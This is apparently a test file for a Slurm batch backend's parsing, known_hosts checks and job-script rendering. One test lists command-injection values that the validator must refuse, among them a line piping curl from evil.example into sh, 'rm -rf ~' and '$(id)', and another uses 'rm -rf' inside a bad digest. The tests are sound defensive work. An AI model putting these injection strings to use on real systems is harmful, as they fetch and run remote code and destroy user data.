// The batch backend's pure parts: what the login node prints, parsed; known_hosts matching; the
// job script rendered from a profile or a batch_template.
import { execFileSync, spawnSync } from 'node:child_process';
import { gzipSync } from 'node:zlib';
import {
  chmodSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test from 'ava';
import { renderJobScript, slurmResources, substitute, wallTime } from '../../adapters/slurm/jobScript.js';
import { hostPattern, parseKnownHosts, verifyHostKey } from '../../adapters/slurm/knownHosts.js';
import {
  compositeJobId,
  jobIdOf,
  limitRefusal,
  parseAccountJobs,
  parsePing,
  parseSbatch,
  sq,
  stageScript,
  submitScript,
} from '../../adapters/slurm/slurmText.js';
import { parsePoll, pollScript } from '../../adapters/slurm/slurmPoll.js';
import type { BatchRemoteDeployment } from '../../core/domain/profile.js';
import * as E from 'fp-ts/lib/Either.js';
import { parseProgressFile } from '../../adapters/slurm/jobFiles.js';
import { ProfileInput } from '../../schema/api/profiles.js';
import { toIssues } from '../../schema/decode.js';

test('a poll answer: squeue first, sacct for the rest, status files, first word of the state', (t) => {
  const a = parsePoll(
    [
      '@@squeue 0',
      '101|RUNNING|None',
      '102|PENDING|Priority',
      '@@sacct 0',
      '103|surveyor-x-a1|CANCELLED by 1000|0:15',
      '104|surveyor-y-a1|COMPLETED|0:0',
      '@@status',
      '@@file 104 {"state": "finished"}',
      '@@progress 101 {"digest": "0a1b2c3d4e5f6071", "drops": 3, "running": ["1_app_0"], "running_count": 1, "waiting_count": 1}',
    ].join('\n'),
  );
  t.deepEqual(
    [...a.jobs.values()].map((j) => [j.jobId, j.state, j.from]),
    [
      ['101', 'RUNNING', 'squeue'],
      ['102', 'PENDING', 'squeue'],
      ['103', 'CANCELLED', 'sacct'],
      ['104', 'COMPLETED', 'sacct'],
    ],
  );
  t.is(a.statuses.get('104'), '{"state": "finished"}');
  t.deepEqual(parseProgressFile(a.progress.get('101')), {
    digest: '0a1b2c3d4e5f6071',
    drops: 3,
    running: ['1_app_0'],
    runningCount: 1,
    waitingCount: 1,
  });
  t.true(a.sacctRan);
  t.is(a.squeueError, null);
});

test('a progress file is data from the cluster: anything not shaped as the helper writes it is no progress', (t) => {
  const good = { digest: 'ab12cd34', drops: 2, running: [], running_count: 0, waiting_count: 2 };
  t.truthy(parseProgressFile(JSON.stringify(good)));
  for (const bad of [
    undefined,
    'not json',
    '[1]',
    JSON.stringify({ ...good, digest: 'not hex; rm -rf' }),
    JSON.stringify({ ...good, drops: -1 }),
    JSON.stringify({ ...good, running_count: 1.5 }),
    JSON.stringify({ ...good, running: 'x' }),
  ])
    t.is(parseProgressFile(bad), null, String(bad));
  const long = parseProgressFile(JSON.stringify({ ...good, running: Array(9).fill('x'.repeat(500)) }))!;
  t.is(long.running.length, 5);
  t.is(long.running[0]!.length, 200);
});

test("squeue's 'Invalid job id' for one unknown id is not an error; a dead controller is", (t) => {
  const one = parsePoll('@@squeue 1\nslurm_load_jobs error: Invalid job id specified\n@@sacct 0\n@@status\n');
  t.is(one.squeueError, null);
  const down = parsePoll('@@squeue 1\nslurm_load_jobs error: Unable to contact slurm controller\n@@status\n');
  t.regex(down.squeueError!, /Unable to contact/);
  const noAcct = parsePoll('@@squeue 0\n@@sacct 1\nSlurm accounting storage is disabled\n@@status\n');
  t.regex(noAcct.sacctError!, /accounting storage is disabled/);
});

test("the poll script asks squeue once for the login user's jobs and quotes every path", (t) => {
  const s = pollScript([
    { jobId: '1', statusPath: "/home/o'neil/a/surveyor-status.json" },
    { jobId: '2', statusPath: '/b/surveyor-status.json', progressPath: '/b/surveyor-progress.json' },
  ]);
  t.true(s.includes("@@progress %s ' '2'; head -c 8192 '/b/surveyor-progress.json'"));
  t.is(s.match(/squeue --/g)!.length, 1);
  t.is(s.match(/sacct --/g)!.length, 1);
  t.true(s.includes('squeue --noheader --user="$(id -un)" --states=all'));
  t.true(s.includes('@@account_jobs'), 'the same squeue counts the account jobs');
  t.true(s.includes('--jobs="$missing"'), 'sacct only for the jobs squeue does not show running');
  t.true(s.includes(sq("/home/o'neil/a/surveyor-status.json")));
  t.is(sq("a'b"), `'a'\\''b'`);
});

test("a site's limit: the words Slurm refuses a job with, and the account's jobs counted with them", (t) => {
  // Slurm 22.05's words past a QOS's MaxSubmitJobsPerUser (the testbed prints them), and others.
  for (const words of [
    "sbatch: error: QOSMaxSubmitJobPerUserLimit\nsbatch: error: Batch job submission failed: Job violates accounting/QOS policy (job submit limit, user's size and/or time limits)",
    'sbatch: error: AssocMaxSubmitJobLimit',
    'sbatch: error: AssocGrpSubmitJobsLimit',
    'sbatch: error: QOSGrpSubmitJobsLimit',
  ])
    t.true(limitRefusal.test(words), words);
  for (const words of [
    'sbatch: error: Batch job submission failed: Invalid partition name specified',
    'sbatch: error: Batch job submission failed: Invalid account or account/partition combination specified',
    'sbatch: error: invalid partition specified: nope',
  ])
    t.false(limitRefusal.test(words), words);
  t.is(parseAccountJobs('sbatch: error: ...\n@@account_jobs 3\n'), 3);
  t.is(parseAccountJobs('sbatch: error: ...\n'), null);
  const script = submitScript({ workDir: '/w', scriptPath: '/w/j.sh', jobName: 'n' });
  t.regex(script, /\[ \$rc = 0 \] \|\| echo "@@account_jobs/);
  t.regex(script, /exit \$rc/);
  const answer = parsePoll('@@now 1\n@@squeue 0\n7|PENDING|Priority|(null)|0\n@@account_jobs 4\n@@status\n');
  t.is(answer.accountJobs, 4);
  t.is(parsePoll('@@squeue 1\nslurm_load_jobs error: Socket timed out\n@@status\n').accountJobs, null);
});

test('sbatch --parsable output, the composite id and ping output', (t) => {
  t.deepEqual(parseSbatch('1234\n'), { jobId: '1234' });
  t.deepEqual(parseSbatch('Submitted to a queue\n77;setonix\n'), { jobId: '77', cluster: 'setonix' });
  t.is(parseSbatch('sbatch: error: Invalid account\n'), null);
  const id = compositeJobId({ user: 'astro', host: 'setonix.pawsey.org.au', port: 22 }, '1234567');
  t.is(id, 'batch:astro@setonix.pawsey.org.au:22/1234567');
  t.is(jobIdOf(id), '1234567');
  t.is(jobIdOf('surveyor-x-a1'), null);
  const p = parsePing('@@version slurm-wlm 22.05.8\n@@dir writable /home/a\n@@dir missing /scratch/x y\n');
  t.is(p.version, 'slurm-wlm 22.05.8');
  t.deepEqual(
    [...p.dirs],
    [
      ['/home/a', 'writable'],
      ['/scratch/x y', 'missing'],
    ],
  );
});

const key = 'AAAAC3NzaC1lZDI1NTE5AAAAIAW/AvzGZmFrZWtleWZha2VrZXlmYWtla2V5ZmFr';
const blob = Buffer.from(key, 'base64');

test('known_hosts: bracketed for other ports, plain for 22, hashed and revoked entries', (t) => {
  t.is(hostPattern('Login.Example', 22), 'login.example');
  t.is(hostPattern('127.0.0.1', 2222), '[127.0.0.1]:2222');
  const kh = parseKnownHosts(
    [
      '# comment',
      `[127.0.0.1]:2222 ssh-ed25519 ${key}`,
      `login.example,10.0.0.1 ssh-ed25519 ${key} comment`,
      `|1|c2FsdA==|aGFzaA== ssh-ed25519 ${key}`,
      'garbage',
    ].join('\n'),
  );
  t.deepEqual(kh.malformed, [5]);
  t.true(kh.entries[2]!.hashed);
  t.true(verifyHostKey(kh, '127.0.0.1', 2222, blob).ok);
  t.true(verifyHostKey(kh, '10.0.0.1', 22, blob).ok);
  const wrongPort = verifyHostKey(kh, '127.0.0.1', 22, blob);
  t.false(wrongPort.ok);
  t.regex((wrongPort as { reason: string }).reason, /no plain entry for 127\.0\.0\.1/);
  const other = verifyHostKey(kh, 'login.example', 22, Buffer.from('other key'));
  t.regex((other as { reason: string }).reason, /matches none of the 1 known_hosts entry/);
  const revoked = parseKnownHosts(`@revoked * ssh-ed25519 ${key}\nlogin.example ssh-ed25519 ${key}\n`);
  t.regex((verifyHostKey(revoked, 'login.example', 22, blob) as { reason: string }).reason, /@revoked/);
});

const profile: BatchRemoteDeployment = {
  kind: 'batch_remote',
  login_node: 'setonix.pawsey.org.au',
  ssh_port: 22,
  account: 'pawsey0411',
  home_dir: '/home/astro',
  dlg_root: '/scratch/pawsey0411/astro/dlg',
  log_dir: '/scratch/pawsey0411/astro/dlg/log',
  modules: 'module load python/3.11',
  venv: 'source /software/dlg/venv/bin/activate',
  exec_prefix: 'srun -l',
  facility: 'setonix',
  job_duration_minutes: 135,
  num_nodes: 4,
  num_islands: 1,
  verbose_level: 2,
  max_threads: 8,
  all_nics: true,
  zerorun: false,
  sleepncopy: true,
  check_with_session: true,
};

test('the default job script carries every profile field', (t) => {
  const s = renderJobScript(profile, 'surveyor-e-a1');
  t.is(wallTime(135), '02:15:00');
  for (const line of [
    '#SBATCH --job-name=surveyor-e-a1',
    '#SBATCH --account=pawsey0411',
    '#SBATCH --nodes=4',
    '#SBATCH --time=02:15:00',
    '#SBATCH --output=/scratch/pawsey0411/astro/dlg/workspace/surveyor-e-a1/slurm-%j.out',
    'module load python/3.11',
    'source /software/dlg/venv/bin/activate',
    '# facility: setonix',
  ])
    t.true(s.includes(line), line);
  const run = s.split('\n').find((l) => l.includes('start_dlg_cluster'))!;
  t.true(run.startsWith('srun -l python3 -m dlg.deploy.start_dlg_cluster'));
  for (const arg of [
    "--log_dir '/scratch/pawsey0411/astro/dlg/log/surveyor-e-a1'",
    '--verbose-level 2',
    '--max-threads 8',
    '--app 1',
    '--num_islands 1',
    '--all_nics',
    '--check_with_session',
    "--ssid 'surveyor-e-a1'",
    '--remote-mechanism slurm',
    '--dump',
  ])
    t.true(run.includes(arg), arg);
  t.false(run.includes('--zerorun'));
  t.true(s.trimEnd().endsWith('"$surveyor_rc"'), 'the helper decides the exit status');
});

test('a batch_template is substituted like Template.safe_substitute, then the run block follows', (t) => {
  t.is(
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the template syntax under test
    substitute('$ACCOUNT ${NUM_NODES}x $UNKNOWN $$', { ACCOUNT: 'a', NUM_NODES: '2' }),
    'a 2x $UNKNOWN $$',
  );
  const s = renderJobScript(
    {
      ...profile,
      batch_template: '#!/bin/bash\n#SBATCH --account=$ACCOUNT\n#SBATCH --time=$JOB_DURATION\n$MODULES\n',
    },
    'surveyor-e-a2',
  );
  t.true(
    s.startsWith(
      '#!/bin/bash\n#SBATCH --account=pawsey0411\n#SBATCH --time=02:15:00\nmodule load python/3.11\n',
    ),
  );
  t.true(s.includes('# ---- surveyor run block'));
  t.false(s.includes('--exclusive'), 'the template replaces the default preamble');
});

test('a profile whose data fields could inject into the job script is refused, stored or not', (t) => {
  const hostile: [Partial<BatchRemoteDeployment>, string][] = [
    [{ account: 'astro\ncurl https://evil.example/x | sh #' }, 'account'],
    [{ account: 'astro --exclusive=no' }, 'account'],
    [{ facility: 'setonix; rm -rf ~' }, 'facility'],
    [{ remote_user: 'astro$(id)' }, 'remote_user'],
    [{ home_dir: 'home/astro' }, 'home_dir'],
    [{ log_dir: '/scratch/../etc' }, 'log_dir'],
    [{ dlg_root: "/scratch/dlg'; touch /tmp/x; '" }, 'dlg_root'],
    [{ dlg_root: '/scratch/with space' }, 'dlg_root'],
    [{ partition: 'work --wrap=id' }, 'partition'],
    [{ partition: 'work,' }, 'partition'],
    [{ qos: 'high\n#SBATCH --uid=0' }, 'qos'],
    [{ memory: '4G; id' }, 'memory'],
    [{ memory: '-1' }, 'memory'],
    [{ memory: '4g' }, 'memory'],
    [{ constraint: 'gpu$(id)' }, 'constraint'],
    [{ constraint: "gpu' 'x" }, 'constraint'],
    [{ cpus_per_task: 0 }, 'cpus_per_task'],
    [{ cpus_per_task: 1.5 }, 'cpus_per_task'],
  ];
  for (const [change, field] of hostile) {
    const d = { ...profile, ...change };
    t.throws(() => renderJobScript(d, 'surveyor-e-a1'), { message: new RegExp(`profile's ${field}`) }, field);
    const r = ProfileInput.decode({ name: 'p', translation: {}, deployment: d });
    t.true(E.isLeft(r), field);
    if (E.isLeft(r))
      t.true(
        toIssues(r.left).some((i) => i.path === `deployment.${field}`),
        field,
      );
  }
  t.true(E.isRight(ProfileInput.decode({ name: 'p', translation: {}, deployment: profile })));
});

test("a profile's Slurm resources go on sbatch's command line, quoted, with or without a template", (t) => {
  t.deepEqual(slurmResources(profile), []);
  const d: BatchRemoteDeployment = {
    ...profile,
    partition: 'work,debug',
    qos: 'high',
    memory: '230G',
    constraint: '[rack1|rack2]&nvme',
    cpus_per_task: 64,
  };
  const options = slurmResources(d);
  t.deepEqual(options, [
    '--partition=work,debug',
    '--qos=high',
    '--mem=230G',
    '--constraint=[rack1|rack2]&nvme',
    '--cpus-per-task=64',
  ]);
  const r = ProfileInput.decode({ name: 'p', translation: {}, deployment: d });
  t.true(E.isRight(r), E.isLeft(r) ? JSON.stringify(toIssues(r.left)) : '');
  // Each option is one sh word: `&`, `|` and `[` reach sbatch as written, never the shell.
  t.is(
    submitScript({ workDir: '/home/a', scriptPath: '/s/job.sh', jobName: 'surveyor-e-a1', options }).split(
      '\n',
    )[1],
    "sbatch --parsable --no-requeue --job-name='surveyor-e-a1' '--partition=work,debug' '--qos=high' '--mem=230G' '--constraint=[rack1|rack2]&nvme' '--cpus-per-task=64' '/s/job.sh'",
  );
  t.is(
    submitScript({ workDir: '/home/a', scriptPath: '/s/job.sh', jobName: 'n' }).split('\n')[1],
    "sbatch --parsable --no-requeue --job-name='n' '/s/job.sh'",
  );
  // The script itself does not repeat them (sbatch's command line wins over #SBATCH lines).
  t.false(renderJobScript(d, 'surveyor-e-a1').includes('--partition'));
});

test('a NODE_FAIL job: the poll script asks sinfo which of its nodes are down, and only then', (t) => {
  // The script in a real sh, with squeue, sacct and sinfo that print what a cluster would.
  const bin = mkdtempSync(join(tmpdir(), 'surveyor-poll-'));
  const fake = (name: string, body: string) => {
    writeFileSync(join(bin, name), `#!/bin/sh\n${body}\n`);
    chmodSync(join(bin, name), 0o755);
  };
  fake('squeue', "echo '7|RUNNING|None|nid001'");
  fake('sacct', "echo '8|surveyor-x-a1|NODE_FAIL|0:0|nid[002-003]'");
  fake('sinfo', `echo "$*" > ${sq(join(bin, 'sinfo-args'))}; echo 'nid003|down*|Not responding'`);
  const run = (reqs: Parameters<typeof pollScript>[0]) =>
    execFileSync('sh', ['-s'], {
      input: pollScript(reqs),
      env: { PATH: `${bin}:/usr/bin:/bin` },
      encoding: 'utf8',
    });
  const a = parsePoll(
    run([
      { jobId: '7', statusPath: '/nowhere/s.json' },
      { jobId: '8', statusPath: '/nowhere/t.json' },
    ]),
  );
  t.like(a.jobs.get('7'), { state: 'RUNNING', nodes: 'nid001' });
  t.like(a.jobs.get('8'), { state: 'NODE_FAIL', nodes: 'nid[002-003]' });
  t.deepEqual(a.downNodes, [{ node: 'nid003', state: 'down*', reason: 'Not responding' }]);
  // sinfo was asked about that job's nodes only.
  t.regex(readFileSync(join(bin, 'sinfo-args'), 'utf8'), /--nodes=nid\[002-003\] /);
  // No NODE_FAIL, no sinfo.
  rmSync(join(bin, 'sinfo-args'));
  fake('sacct', "echo '8|surveyor-x-a1|FAILED|1:0|nid002'");
  t.deepEqual(parsePoll(run([{ jobId: '8', statusPath: '/nowhere/t.json' }])).downNodes, []);
  t.false(existsSync(join(bin, 'sinfo-args')));
  rmSync(bin, { recursive: true });
});

test('a job that ended: sacct (in the same round) gives its accounting, the largest MaxRSS of its steps', (t) => {
  const a = parsePoll(
    [
      '@@squeue 0',
      '201|COMPLETED|None|nid001',
      '@@sacct 0',
      '201|surveyor-x-a1|COMPLETED|0:0|nid[001-002]|1764150000|1764150030|1764150090|60|2|8|480|',
      '201.batch|batch|COMPLETED|0:0|nid001|1764150030|1764150030|1764150090|60|1|4|240|1536K',
      '201.0|python3|COMPLETED|0:0|nid[001-002]|1764150031|1764150031|1764150089|58|2|8|464|2.50G',
      '202|surveyor-y-a1|CANCELLED by 1000|0:0|None assigned|1764150000|Unknown|1764150100|0|0|0|0|',
      '@@status',
    ].join('\n'),
  );
  t.like(a.jobs.get('201'), { state: 'COMPLETED', from: 'squeue' });
  t.deepEqual(a.usage.get('201'), {
    state: 'COMPLETED',
    exitCode: '0:0',
    submit: 1764150000,
    start: 1764150030,
    end: 1764150090,
    elapsedSeconds: 60,
    nodes: 2,
    cpus: 8,
    cpuSeconds: 480,
    maxRssBytes: Math.round(2.5 * 1024 ** 3),
  });
  t.like(a.usage.get('202'), { state: 'CANCELLED', start: null, elapsedSeconds: 0, maxRssBytes: null });
});

test('the poll script asks sacct about jobs squeue shows ended, with times as Unix seconds, and not about running ones', (t) => {
  const bin = mkdtempSync(join(tmpdir(), 'surveyor-poll-'));
  const fake = (name: string, body: string) => {
    writeFileSync(join(bin, name), `#!/bin/sh\n${body}\n`);
    chmodSync(join(bin, name), 0o755);
  };
  fake('squeue', "printf '7|RUNNING|None|nid001\\n8|COMPLETED|None|nid002\\n'");
  fake('sacct', `echo "$SLURM_TIME_FORMAT $*" > ${sq(join(bin, 'sacct-args'))}`);
  fake('sinfo', 'true');
  execFileSync('sh', ['-s'], {
    input: pollScript([
      { jobId: '7', statusPath: '/nowhere/s.json' },
      { jobId: '8', statusPath: '/nowhere/t.json' },
      { jobId: '9', statusPath: '/nowhere/u.json' },
    ]),
    env: { PATH: `${bin}:/usr/bin:/bin` },
    encoding: 'utf8',
  });
  const args = readFileSync(join(bin, 'sacct-args'), 'utf8');
  t.regex(args, /^%s /);
  t.regex(args, /--jobs=8,9 /);
  t.regex(args, /MaxRSS/);
  t.notRegex(args, /--allocations/);
  rmSync(bin, { recursive: true });
});

// Run by this machine's /bin/sh (dash on Debian, as on many login nodes): the files arrive whole,
// with their modes, whatever their bytes and names, and nothing half-written is left.
test('stageScript writes every file in one script: content, mode, awkward names, no .part left', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'stage-'));
  try {
    const session = join(dir, "it's a $dir");
    const big = JSON.stringify(Array.from({ length: 20_000 }, (_, i) => ({ oid: `d${i}`, text: 'é\n\t"' })));
    const files = [
      { path: join(session, 'graph.json'), content: Buffer.from(big), mode: 0o640 },
      { path: join(session, 'job.sh'), content: Buffer.from('#!/bin/sh\necho $HOME `x`\n'), mode: 0o750 },
      { path: join(session, 'empty'), content: Buffer.alloc(0), mode: 0o600 },
      { path: join(session, 'bytes'), content: Buffer.from([0, 255, 10, 13, 0x27]), mode: 0o640 },
    ];
    const script = stageScript(
      [session, join(dir, 'logs')],
      files.map((f) => ({ path: f.path, mode: f.mode, gzipBase64: gzipSync(f.content).toString('base64') })),
    );
    const r = spawnSync('/bin/sh', ['-s'], { input: script, encoding: 'utf8' });
    t.is(r.status, 0, r.stderr);
    for (const f of files) {
      t.deepEqual(readFileSync(f.path), f.content);
      t.is(statSync(f.path).mode & 0o777, f.mode);
    }
    t.true(existsSync(join(dir, 'logs')));
    t.deepEqual(readdirSync(session).sort(), ['bytes', 'empty', 'graph.json', 'job.sh']);
    // Again over what is there (a resumed attempt): replaced, same result.
    t.is(spawnSync('/bin/sh', ['-s'], { input: script }).status, 0);
    t.deepEqual(readFileSync(files[0]!.path), files[0]!.content);
    // A file it cannot create (its directory is not there): stops at once, saying which.
    const denied = spawnSync('/bin/sh', ['-s'], {
      input: stageScript(
        [join(dir, 'ro')],
        [{ path: join(dir, 'ro', 'x', 'f'), mode: 0o640, gzipBase64: '' }],
      ),
      encoding: 'utf8',
    });
    t.not(denied.status, 0);
    t.regex(denied.stderr, /ro\/x\/f\.part/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
